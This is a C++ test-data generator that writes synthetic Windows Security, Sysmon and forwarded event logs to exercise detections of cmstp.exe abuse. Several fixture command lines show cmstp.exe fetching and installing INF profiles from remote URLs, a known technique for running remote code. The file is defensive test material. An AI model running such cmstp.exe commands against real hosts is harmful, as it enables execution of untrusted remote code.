#include "security_scenario.hpp"

#include <algorithm>
#include <cctype>
#include <map>

#include "forwarded_events.hpp"
#include "programs.hpp"
#include "security_audit_events.hpp"

namespace evtxcar::testdata {

namespace {

using namespace evtx_writer;

constexpr const char* cmstp_image = "C:\\Windows\\System32\\cmstp.exe";
constexpr const char* explorer_image = "C:\\Windows\\explorer.exe";
constexpr std::uint64_t explorer_pid = 0x1C84;
constexpr std::uint64_t services_pid = 0x2D0;

const std::vector<std::string> car_and_remote = {detection_car, detection_remote};
const std::vector<std::string> remote_only = {detection_remote};
const std::vector<std::string> cmdline_url = {detection_cmdline_url};
const std::vector<std::string> none = {};
// The catalogue's CAR-2013-07-001 finds an IPv4 address on a command line.
const std::string address_on_command_line = "CAR-2013-07-001:ip-address";

// The path the filtering platform shows for a program on drive C:.
std::string device_path(const std::string& windows_path) {
    std::string lower = windows_path.substr(3);  // after "C:\"
    std::transform(lower.begin(), lower.end(), lower.begin(),
                   [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
    return "\\device\\harddiskvolume2\\" + lower;
}

std::string pid_text(std::uint64_t pid) {
    static constexpr char digits[] = "0123456789abcdef";
    std::string hex;
    do {
        hex.insert(hex.begin(), digits[pid % 16]);
        pid /= 16;
    } while (pid != 0);
    return "pid 0x" + hex;
}

wfp_connection connection(std::uint64_t pid, const std::string& image, bool inbound, const std::string& local,
                          std::uint16_t local_port, const std::string& remote, std::uint16_t remote_port,
                          std::uint32_t protocol = protocol_tcp) {
    wfp_connection c;
    c.process_id = pid;
    c.application = device_path(image);
    c.inbound = inbound;
    c.local_address = local;
    c.local_port = local_port;
    c.remote_address = remote;
    c.remote_port = remote_port;
    c.protocol = protocol;
    c.filter_rtid = inbound ? 71045 : 68195;
    return c;
}

// How the source host renders each event's first message line and task,
// for the forwarded copies.
struct rendered_kind {
    const char* first_line;
    const char* task;
};

const std::map<std::uint16_t, rendered_kind>& security_texts() {
    static const std::map<std::uint16_t, rendered_kind> texts = {
        {4688, {"A new process has been created.", "Process Creation"}},
        {4689, {"A process has exited.", "Process Termination"}},
        {5156, {"The Windows Filtering Platform has permitted a connection.", "Filtering Platform Connection"}},
        {5157, {"The Windows Filtering Platform has blocked a connection.", "Filtering Platform Connection"}},
        {5158, {"The Windows Filtering Platform has permitted a bind to a local port.",
                "Filtering Platform Connection"}}};
    return texts;
}

// The Security log of one host, told in order; with `forward`, each event
// is stored as a collector's ForwardedEvents log holds it.
class audit_log {
public:
    audit_log(std::string computer, filetime start, pointer_width width = pointer_width::bits64, bool forward = false)
        : computer_(std::move(computer)), time_(start), width_(width), forward_(forward) {}

    void created(const process_creation& p, std::uint8_t version, const std::string& why,
                 std::vector<std::string> detections = {}) {
        add(security_process_created(computer_, next(), p, version, width_),
            why + ": 4688 v" + std::to_string(version) + " " + pid_text(p.new_process_id), std::move(detections));
    }
    void exited(const account& subject, std::uint64_t pid, const std::string& image, const std::string& why) {
        add(security_process_exited(computer_, next(), subject, pid, image, 0, width_), why + ": 4689 " + pid_text(pid),
            {});
    }
    void permitted(const wfp_connection& c, const std::string& why, std::vector<std::string> detections) {
        add(security_connection_permitted(computer_, next(), c), why + ": 5156 " + flow_text(c), std::move(detections));
    }
    void blocked(const wfp_connection& c, const std::string& why) {
        add(security_connection_blocked(computer_, next(), c), why + ": 5157 " + flow_text(c), {});
    }
    void bound(wfp_connection c, const std::string& why) {
        c.filter_rtid = 0;  // binds are permitted by no particular filter
        add(security_bind_permitted(computer_, next(), c),
            why + ": 5158 bind " + c.local_address + " port " + std::to_string(c.local_port), {});
    }

    const std::string& computer() const { return computer_; }
    std::vector<scenario_record> records() const { return records_; }

private:
    static std::string flow_text(const wfp_connection& c) {
        return std::string(c.inbound ? "inbound from " : "outbound to ") + c.remote_address + " (local " +
               c.local_address + ")";
    }
    filetime next() { return time_ += 4 * ticks_per_second + 318'421; }
    void add(windows_event event, std::string why, std::vector<std::string> detections) {
        if (forward_) {
            const rendered_kind& texts = security_texts().at(event.system.event_id);
            event = forwarded(std::move(event), texts.first_line, texts.task);
        }
        records_.push_back({std::move(event), std::move(why), std::move(detections)});
    }

    std::string computer_;
    filetime time_;
    pointer_width width_;
    bool forward_;
    std::vector<scenario_record> records_;
};

const account local_system_ws05 = {"S-1-5-18", "WS05$", "CORP", 0x3E7};
const account jdoe = {"S-1-5-21-3623811015-3361044348-30300820-1105", "jdoe", "CORP", 0x5D2F1A};
const account helpdesk = {"S-1-5-21-3623811015-3361044348-30300820-1142", "helpdesk", "CORP", 0x7A11C3};

process_creation user_process(std::uint64_t pid, const std::string& image, const std::string& command_line,
                              const account& user = jdoe) {
    process_creation p;
    p.subject = user;
    p.new_process_id = pid;
    p.new_process_name = image;
    p.token_elevation_type = "%%1938";
    p.parent_process_id = explorer_pid;
    p.command_line = command_line;
    p.parent_process_name = explorer_image;
    return p;
}

process_creation service_process(const account& system, std::uint64_t pid, const std::string& image,
                                 const std::string& command_line) {
    process_creation p;
    p.subject = system;
    p.new_process_id = pid;
    p.new_process_name = image;
    p.parent_process_id = services_pid;
    p.command_line = command_line;
    p.parent_process_name = "C:\\Windows\\System32\\services.exe";
    p.mandatory_label = "S-1-16-16384";  // system integrity
    return p;
}

filetime at(unsigned day, unsigned hour, unsigned minute) { return to_filetime({2026, 3, day, hour, minute, 0, 0}); }

// WS05: a Windows 10 workstation with process and filtering platform
// auditing on, no Sysmon. Own addresses: 10.20.5.55 (LAN), 198.51.100.23
// (a second, public interface), fd12:3456:789a:5::55 (unique local),
// 2001:db8:5::55 (global IPv6), fe80::5:55 (link-local).
std::vector<scenario_record> ws05_records() {
    audit_log log("WS05.corp.example.com", at(10, 8, 0));
    const std::string lan = "10.20.5.55";
    const std::string public_v4 = "198.51.100.23";
    const std::string ula = "fd12:3456:789a:5::55";
    const std::string global_v6 = "2001:db8:5::55";
    const std::string svchost = "C:\\Windows\\System32\\svchost.exe";
    const std::string local_inf = "C:\\Windows\\System32\\cmstp.exe /s /ns C:\\Users\\jdoe\\AppData\\Local\\Temp\\vpn.inf";

    // Benign noise.
    log.created(service_process(local_system_ws05, 0x1F48, svchost, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"),
                2, "benign: a service host starts (subject SYSTEM, target NULL SID)");
    log.permitted(connection(0x1F48, svchost, false, lan, 52110, "10.20.0.10", 53, protocol_udp),
                  "benign: svchost.exe asks the internal DNS server", none);
    process_creation as_helpdesk = user_process(0x2A10, "C:\\Windows\\System32\\mmc.exe",
                                                "\"C:\\Windows\\system32\\mmc.exe\" compmgmt.msc");
    as_helpdesk.target = helpdesk;
    as_helpdesk.token_elevation_type = "%%1937";
    as_helpdesk.mandatory_label = "S-1-16-12288";
    log.created(as_helpdesk, 2, "benign: mmc.exe started by jdoe as another account (target helpdesk)");
    log.exited(jdoe, 0x2A10, "C:\\Windows\\System32\\mmc.exe", "benign: mmc.exe exits");

    // One cmstp.exe with a local INF: no URL; its flows decide.
    const std::uint64_t cmstp_a = 0x1A2C;
    log.created(user_process(cmstp_a, cmstp_image, local_inf), 2, "cmstp.exe with a local INF: no cmdline-url");
    log.permitted(connection(cmstp_a, cmstp_image, true, lan, 8443, "203.0.113.45", 51234),
                  "cmstp.exe accepts a connection from an external IPv4 address: CAR src_ip is the remote initiator",
                  car_and_remote);
    log.permitted(connection(cmstp_a, cmstp_image, false, lan, 49822, "198.51.100.77", 443),
                  "cmstp.exe connects from its LAN address to an external address: src_ip inside HOMENET, no car",
                  remote_only);
    log.permitted(connection(cmstp_a, cmstp_image, false, public_v4, 50112, "192.0.2.80", 80),
                  "cmstp.exe connects from the host's public address to an external one: src_ip external",
                  car_and_remote);
    log.permitted(connection(cmstp_a, cmstp_image, false, lan, 49830, "10.20.0.15", 445),
                  "cmstp.exe connects to an internal file server: no detection", none);
    log.blocked(connection(cmstp_a, cmstp_image, false, lan, 49831, "203.0.113.45", 443),
                "cmstp.exe is blocked connecting to an external address: flow/block, no detection");
    log.blocked(connection(cmstp_a, cmstp_image, true, lan, 8443, "203.0.113.46", 51240),
                "cmstp.exe is blocked accepting from an external address: flow/block, no detection");
    log.bound(connection(cmstp_a, cmstp_image, false, public_v4, 50300, "", 0),
              "cmstp.exe binds a port on the public address: socket/bind, no detection");
    log.bound(connection(cmstp_a, cmstp_image, false, "0.0.0.0", 50301, "", 0, protocol_udp),
              "cmstp.exe binds a UDP port on every address: socket/bind, no detection");

    // IPv6: loopback, link-local and unique local are never external; a
    // global address is outside the default (IPv4) HOMENET.
    const std::uint64_t cmstp_v6 = 0x2B74;
    log.created(user_process(cmstp_v6, cmstp_image, local_inf), 2, "cmstp.exe for the IPv6 flows");
    log.permitted(connection(cmstp_v6, cmstp_image, false, "::1", 50200, "::1", 8080),
                  "IPv6 outbound over loopback ::1: no detection", none);
    log.permitted(connection(cmstp_v6, cmstp_image, true, "::1", 8080, "::1", 50201),
                  "IPv6 inbound over loopback ::1: no detection", none);
    log.permitted(connection(cmstp_v6, cmstp_image, false, "fe80::5:55", 50202, "fe80::1", 443),
                  "IPv6 outbound link-local to link-local: no detection", none);
    log.permitted(connection(cmstp_v6, cmstp_image, true, "fe80::5:55", 8443, "fe80::99", 50203),
                  "IPv6 inbound from a link-local address: no detection", none);
    log.permitted(connection(cmstp_v6, cmstp_image, false, ula, 50204, "fd12:3456:789a:1::10", 443),
                  "IPv6 outbound unique local to unique local: no detection", none);
    log.permitted(connection(cmstp_v6, cmstp_image, false, ula, 50205, "2001:db8:ffff::80", 443),
                  "IPv6 outbound from a unique local address to a global one: remote only", remote_only);
    log.permitted(connection(cmstp_v6, cmstp_image, false, global_v6, 50206, "2001:db8:ffff::80", 443),
                  "IPv6 outbound from the host's global address to a global one: src_ip external", car_and_remote);
    log.permitted(connection(cmstp_v6, cmstp_image, true, ula, 8443, "2001:db8:abcd::7", 50207),
                  "IPv6 inbound from a global address to the unique local one", car_and_remote);
    log.exited(jdoe, cmstp_v6, cmstp_image, "the IPv6 cmstp.exe exits");

    // cmstp.exe from SysWOW64: not the published System32 path.
    const std::string wow64_cmstp = "C:\\Windows\\SysWOW64\\cmstp.exe";
    log.created(user_process(0x2F1C, wow64_cmstp, "C:\\Windows\\SysWOW64\\cmstp.exe /s vpn.inf"), 2,
                "32-bit cmstp.exe from SysWOW64");
    log.permitted(connection(0x2F1C, wow64_cmstp, true, lan, 8443, "203.0.113.60", 51300),
                  "SysWOW64 cmstp.exe accepts from an external address: not the car path, remote only", remote_only);

    // Command lines.
    const std::uint64_t cmstp_url = 0x12F08;  // above 0xFFFF
    log.created(user_process(cmstp_url, cmstp_image, "cmstp.exe /ni /s https://files.example.net/profiles/corp.inf"),
                2, "cmstp.exe with an https URL", cmdline_url);
    log.permitted(connection(cmstp_url, cmstp_image, false, lan, 49901, "203.0.113.99", 443),
                  "the URL cmstp.exe fetches its INF", remote_only);
    log.created(user_process(0x13A44, cmstp_image, "cmstp.exe /s \\\\10.20.0.15\\profiles\\corp.inf"), 2,
                "cmstp.exe with a UNC path to an internal address: no cmdline-url", {address_on_command_line});
    log.created(user_process(0x1D30, cmstp_image, ""), 0,
                "cmstp.exe in the version 0 shape (no CommandLine): no cmdline-url");
    log.permitted(connection(0x1D30, cmstp_image, false, lan, 49910, "198.51.100.120", 80),
                  "the version 0 cmstp.exe connects out: its process context is the v0 4688", remote_only);
    log.created(user_process(0x1E64, cmstp_image, "cmstp.exe /au http://198.51.100.200/x.inf"), 1,
                "cmstp.exe in the version 1 shape with an http URL", {detection_cmdline_url, address_on_command_line});

    // A process id reused: the flow after the new 4688 belongs to the new
    // process, not to the cmstp.exe that exited.
    const std::uint64_t reused = 0x3E8C;
    const std::string edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
    log.created(user_process(reused, cmstp_image, local_inf), 2, "pid reuse: cmstp.exe starts");
    log.permitted(connection(reused, cmstp_image, false, lan, 49950, "203.0.113.140", 443),
                  "pid reuse: the cmstp.exe connects out (context: the cmstp.exe 4688 just before)", remote_only);
    log.exited(jdoe, reused, cmstp_image, "pid reuse: cmstp.exe exits");
    log.created(user_process(reused, edge, "\"" + edge + "\" --single-argument https://intranet.corp.example.com/"), 2,
                "pid reuse: msedge.exe gets the same process id");
    log.permitted(connection(reused, edge, false, lan, 49960, "203.0.113.141", 443),
                  "pid reuse: msedge.exe connects out; not cmstp.exe, no detection", none);
    log.exited(jdoe, reused, edge, "pid reuse: msedge.exe exits");
    log.exited(jdoe, cmstp_a, cmstp_image, "the first cmstp.exe exits");
    return log.records();
}

// WS07: a 32-bit Windows 7 host (4688 version 1, process ids as HexInt32)
// auditing processes but not the filtering platform: no network events.
std::vector<scenario_record> ws07_records() {
    audit_log log("WS07.corp.example.com", at(11, 9, 0), pointer_width::bits32);
    const account system = {"S-1-5-18", "WS07$", "CORP", 0x3E7};
    const account mlee = {"S-1-5-21-3623811015-3361044348-30300820-1187", "mlee", "CORP", 0x2C41B};
    process_creation p = user_process(0xE40, "C:\\Windows\\System32\\notepad.exe",
                                      "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\mlee\\notes.txt", mlee);
    p.token_elevation_type = "%%1936";
    log.created(p, 1, "benign: notepad.exe");
    log.created(service_process(system, 0xF1C, "C:\\Windows\\System32\\taskhost.exe", "taskhost.exe $(Arg0)"), 1,
                "benign: taskhost.exe");
    p = user_process(0x1D8, cmstp_image, "\"C:\\Windows\\system32\\cmstp.exe\" /s C:\\Temp\\vpn.inf", mlee);
    p.token_elevation_type = "%%1936";
    log.created(p, 1, "cmstp.exe with a local INF on a host without network auditing: no detection (car, remote not evaluable)");
    log.exited(mlee, 0x1D8, cmstp_image, "cmstp.exe exits");
    log.exited(mlee, 0xE40, "C:\\Windows\\System32\\notepad.exe", "benign: notepad.exe exits");
    log.exited(system, 0xF1C, "C:\\Windows\\System32\\taskhost.exe", "benign: taskhost.exe exits");
    return log.records();
}

constexpr std::uint64_t forwarded_ws08_first_id = 55120;
constexpr std::uint64_t forwarded_ws09_first_id = 20871;

// WEC01: a collector; WS08's Security events arrive first, then a batch of
// WS09's Sysmon events logged earlier (forwarded logs are not in time order).
std::vector<scenario_record> wec01_records() {
    audit_log ws08("WS08.corp.example.com", at(12, 10, 0), pointer_width::bits64, true);
    const account system = {"S-1-5-18", "WS08$", "CORP", 0x3E7};
    ws08.created(service_process(system, 0x2214, "C:\\Windows\\System32\\svchost.exe",
                                 "C:\\Windows\\system32\\svchost.exe -k LocalService"),
                 2, "WS08 forwarded, benign: svchost.exe");
    ws08.created(user_process(0x25F0, cmstp_image, "cmstp.exe /ni /s https://cdn.example.org/vpn/setup.inf"), 2,
                 "WS08 forwarded: cmstp.exe with an https URL", cmdline_url);
    ws08.permitted(connection(0x25F0, cmstp_image, false, "10.20.8.41", 50510, "203.0.113.180", 443),
                   "WS08 forwarded: cmstp.exe fetches the INF", remote_only);
    ws08.exited(jdoe, 0x25F0, cmstp_image, "WS08 forwarded: cmstp.exe exits");
    std::vector<scenario_record> records = ws08.records();

    const sysmon_host ws09 = {"WS09.corp.example.com", "10.20.9.31", sysmon_schema::v4_90, 2876, 0x7A31C0D4};
    const logon_session user = {"CORP\\jdoe", 0x5D2F1A, 1, "Medium"};
    filetime t = at(12, 9, 50);
    const sysmon_process explorer = program_process(ws09, t - 3600 * ticks_per_second, "WS09 explorer", 4412,
                                                    explorer_image, "C:\\Windows\\Explorer.EXE", user,
                                                    "C:\\Users\\jdoe\\");
    const auto add = [&records](windows_event event, const char* first_line, const char* task, std::string why,
                                std::vector<std::string> detections) {
        records.push_back({forwarded(std::move(event), first_line, task), std::move(why), std::move(detections)});
    };
    const sysmon_process notepad =
        program_process(ws09, t, "WS09 notepad", 6120, "C:\\Windows\\System32\\notepad.exe",
                        "\"C:\\Windows\\system32\\notepad.exe\"", user, "C:\\Users\\jdoe\\");
    add(sysmon_process_create(ws09, t, notepad, explorer), "Process Create:", "Process Create (rule: ProcessCreate)",
        "WS09 forwarded Sysmon, benign: notepad.exe", none);
    t += 9 * ticks_per_second;
    const sysmon_process cmstp = program_process(ws09, t, "WS09 cmstp", 6188, cmstp_image,
                                                 "cmstp.exe /ni /s https://203.0.113.77/p.inf", user,
                                                 "C:\\Users\\jdoe\\");
    add(sysmon_process_create(ws09, t, cmstp, explorer), "Process Create:", "Process Create (rule: ProcessCreate)",
        "WS09 forwarded Sysmon: cmstp.exe with an https URL to an external address",
        {detection_cmdline_url, address_on_command_line});
    t += 2 * ticks_per_second;
    network_connection c;
    c.source_ip = ws09.address;
    c.source_hostname = ws09.computer;
    c.source_port = 50620;
    c.destination_ip = "203.0.113.77";
    c.destination_hostname = "-";
    c.destination_port = 443;
    c.destination_port_name = "https";
    add(sysmon_network_connection(ws09, t, cmstp, c), "Network connection detected:",
        "Network connection detected (rule: NetworkConnect)",
        "WS09 forwarded Sysmon: cmstp.exe connects out to an external address", remote_only);
    t += 3 * ticks_per_second;
    add(sysmon_process_terminate(ws09, t, cmstp), "Process terminated:", "Process terminated (rule: ProcessTerminate)",
        "WS09 forwarded Sysmon: cmstp.exe exits", none);
    // Each forwarded event keeps the EventRecordID its source gave it (the
    // originals' logs below number them from 55120 and 20871).
    for (std::size_t i = 0; i < records.size(); ++i) {
        records[i].event.system.event_record_id = i < 4 ? forwarded_ws08_first_id + i : forwarded_ws09_first_id + (i - 4);
    }
    return records;
}

}  // namespace

// The same events as their source hosts logged them, without RenderingInfo:
// WS08's Security log (the first four) and WS09's Sysmon log (the last four).
std::vector<scenario_record> originals_of(std::vector<scenario_record> forwarded_records, std::size_t first,
                                          std::size_t count) {
    std::vector<scenario_record> originals(forwarded_records.begin() + static_cast<std::ptrdiff_t>(first),
                                           forwarded_records.begin() + static_cast<std::ptrdiff_t>(first + count));
    for (scenario_record& record : originals) {
        record.event.rendering.reset();
        record.event.system.event_record_id.reset();  // the source numbers its records itself
        record.case_description += " (as the source host logged it)";
    }
    return originals;
}

std::vector<scenario_file> security_files() {
    return {log_file("security/WS05/Security.evtx",
                     "CMSTP from Security auditing alone (4688 v0/v1/v2, 4689, 5156/5157/5158): every variant, "
                     "IPv4 and IPv6, pid reuse, hex pids above 0xFFFF",
                     ws05_records(), 184201),
            log_file("security/WS07/Security.evtx",
                     "process auditing (4688 v1, 32-bit hex pids, 4689) and no network events: car and remote "
                     "cannot be evaluated on this host",
                     ws07_records(), 9120),
            log_file("security/WEC01/ForwardedEvents.evtx",
                     "a collector's forwarded Security (WS08) and Sysmon (WS09) events with RenderingInfo",
                     wec01_records(), 1),
            log_file("security/WS08/Security.evtx",
                     "WS08's own Security log: the events WEC01 holds forwarded, without RenderingInfo",
                     originals_of(wec01_records(), 0, 4), forwarded_ws08_first_id),
            log_file("security/WS09/Microsoft-Windows-Sysmon%4Operational.evtx",
                     "WS09's own Sysmon log: the events WEC01 holds forwarded, without RenderingInfo",
                     originals_of(wec01_records(), 4, 4), forwarded_ws09_first_id)};
}

}  // namespace evtxcar::testdata
